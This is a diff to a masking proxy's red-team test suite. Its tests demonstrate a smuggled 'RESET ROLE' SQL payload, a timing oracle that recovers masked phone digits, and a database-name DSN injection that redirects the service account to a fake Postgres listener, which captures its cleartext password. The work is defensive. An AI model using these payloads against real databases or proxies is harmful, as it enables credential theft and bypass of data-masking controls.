@@ -12,18 +12,27 @@ gets out (or the identity changes). Remove the marker once the proxy is fixed.
 
 from __future__ import annotations
 
+import contextlib
+import shutil
+import socket
+import struct
+import threading
 import time
 from collections.abc import Iterator
+from pathlib import Path
 from typing import Any
 
 import psycopg
 import pytest
+from prometheus_client import CollectorRegistry
 
-from proxy.demo.embedded_pg import EmbeddedPostgres
+from proxy.app import App
+from proxy.config import load_config
+from proxy.demo.embedded_pg import EmbeddedPostgres, free_port
 from proxy.pg import messages as m
-from tests.conftest import start_crm
-from tests.integration.harness import serve_demo
-from tests.integration.test_redteam import Wire, errors_of, leaked, rows
+from tests.conftest import CRM_VENDOR_PASSWORD, start_crm
+from tests.integration.harness import DEMO_POLICY, Running, serve_demo
+from tests.integration.test_redteam import Wire, leaked, rows
 
 SVC_PW = "svc-secret-redteam-v3"
 VENDOR = ("vendor_zhang", "vendor-pass")
@@ -158,10 +167,7 @@ def test_shape_cache_hit_skips_the_lexer_check_and_reads_clear_numbers(
 def test_shape_cache_smuggled_reset_role_changes_who_the_session_is(served: dict[str, Any]) -> None:
     w = wire_as(served, DESK)
     try:
-        body = (
-            f".x FROM (SELECT 1 AS x) AS {ALIAS}; RESET ROLE; "
-            "SELECT count(*)::text FROM audit_trail --"
-        )
+        body = f".x FROM (SELECT 1 AS x) AS {ALIAS}; RESET ROLE; SELECT count(*)::text FROM audit_trail --"
         _smuggle(w, body, 201)
         out = w.query("SELECT current_user::text, session_user::text")
         current = _decoded(out)
@@ -240,7 +246,9 @@ def _amplified(pos: int, digit: int, levels: int = 7) -> str:
     reason="LEAK: replace()/md5() are 'total' yet their time depends on the value: a timing oracle "
     "recovers the hidden middle digits of a masked phone (~40 ms vs ~0.5 ms per guess)",
 )
-def test_total_functions_time_reveals_the_hidden_digits(served: dict[str, Any], crm: EmbeddedPostgres) -> None:
+def test_total_functions_time_reveals_the_hidden_digits(
+    served: dict[str, Any], crm: EmbeddedPostgres
+) -> None:
     with psycopg.connect(crm.dsn("maskgate_svc", SVC_PW, "crm")) as c:
         target, phone = c.execute(
             "SELECT id, phone FROM customers WHERE branch_id = 12 ORDER BY id LIMIT 1"
@@ -371,3 +379,80 @@ def test_short_column_alias_list_shifts_the_masks(
     names = {r[-1] for r in got} & truth["names"]
     numbers = leaked(truth["secrets"], [r[-2] for r in got])
     assert not names and not numbers, (sorted(names)[:3], sorted(numbers)[:3])
+
+
+# ---------------------------------------------------------------------------------------------
+# 7. The database a client names is pasted, unquoted, into the schema loader's DSN
+# ---------------------------------------------------------------------------------------------
+#
+# After the person's login, the session connects upstream with the database the client named
+# and, in parallel, the guard loads that database's schema (proxy/core/driver.py
+# `_open_upstream` → guard.prepare → catalog.SchemaLoader(pg.dsn)). `Upstream.dsn`
+# (proxy/config.py) builds `postgresql://svc:PASSWORD@host:port/{database}` without quoting the
+# name, so a database named `crm?host=ATTACKER&port=N&sslmode=disable` makes libpq connect the
+# service account to the attacker, who asks for a cleartext password and gets it. (With query
+# parameters in the configured upstream URL, `?sslmode=…` is appended after the name and libpq
+# rejects the URL; config.md documents `sslmode` as optional.)
+
+
+def _steal_password(timeout: float = 15) -> tuple[int, dict[str, bytes], threading.Thread]:
+    got: dict[str, bytes] = {}
+    srv = socket.socket()
+    srv.bind(("127.0.0.1", 0))
+    srv.listen(1)
+    srv.settimeout(timeout)
+
+    def fake_postgres() -> None:
+        try:
+            c, _ = srv.accept()
+        except OSError:
+            return
+        with c, srv:
+            c.settimeout(5)
+            (n,) = struct.unpack("!i", c.recv(4))
+            c.recv(n - 4)  # the startup packet
+            c.sendall(b"R" + struct.pack("!ii", 8, 3))  # AuthenticationCleartextPassword
+            c.recv(1)
+            (n,) = struct.unpack("!i", c.recv(4))
+            got["password"] = c.recv(n - 4).rstrip(b"\0")
+
+    t = threading.Thread(target=fake_postgres, daemon=True)
+    t.start()
+    return srv.getsockname()[1], got, t
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="LEAK: a logged-in vendor names the database `crm?host=<attacker>&port=…`; the schema "
+    "loader's DSN takes it unquoted and sends the service account's password to the attacker",
+)
+def test_database_name_redirects_the_schema_loader_and_leaks_the_service_password(
+    crm: EmbeddedPostgres, tmp_path: Path
+) -> None:
+    d = tmp_path / "noparams"
+    (d / "policy").mkdir(parents=True)
+    shutil.copy(DEMO_POLICY, d / "policy" / "policy.yaml")
+    port, mport = free_port(), free_port()
+    (d / "maskgate.yaml").write_text(
+        f"policy: policy\nmetrics: 127.0.0.1:{mport}\npostgres:\n  listen: 127.0.0.1:{port}\n"
+        f"  upstream: postgresql://maskgate_svc:${{T_UPSTREAM}}@127.0.0.1:{crm.port}/crm\n"
+        '  database_roles: {crm_vendor: "${T_VENDOR}"}\n'
+    )
+    config = load_config(d / "maskgate.yaml", env={"T_UPSTREAM": SVC_PW, "T_VENDOR": CRM_VENDOR_PASSWORD})
+    running = Running(App(config, registry=CollectorRegistry()))
+    try:
+        fport, got, t = _steal_password()
+        with contextlib.suppress(psycopg.Error):
+            psycopg.connect(
+                host="127.0.0.1",
+                port=port,
+                user=VENDOR[0],
+                password=VENDOR[1],
+                dbname=f"crm?host=127.0.0.1&port={fport}&sslmode=disable",
+                sslmode="disable",
+                connect_timeout=10,
+            ).close()
+        t.join(15)
+    finally:
+        running.stop()
+    assert SVC_PW.encode() not in got.get("password", b""), got
